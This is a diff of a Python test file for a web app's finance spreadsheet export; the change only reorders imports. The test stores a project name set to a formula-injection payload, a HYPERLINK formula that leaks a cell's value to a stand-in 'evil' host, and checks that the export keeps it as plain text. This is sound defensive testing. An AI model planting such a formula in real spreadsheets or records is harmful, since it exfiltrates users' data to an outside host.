@@ -79,9 +79,8 @@ def test_every_kind_of_action_is_logged_with_who_and_address(world) -> None:
 
 def test_portfolio_export_cells_are_text(world) -> None:
     """The 财政 export: a project named like a formula stays text (read from the sheet XML)."""
-    from xml_cells import formulas, texts
-
     from jixiao.web.projects.models import ProjectRecord
+    from xml_cells import formulas, texts
     hostile = '=HYPERLINK("http://evil/?leak="&A3,"点我查看")'
     ProjectRecord.objects.filter(pk=world.project_a.pk).update(name=hostile)
     data = world.client("fin").get("/portfolio/export.xlsx").content
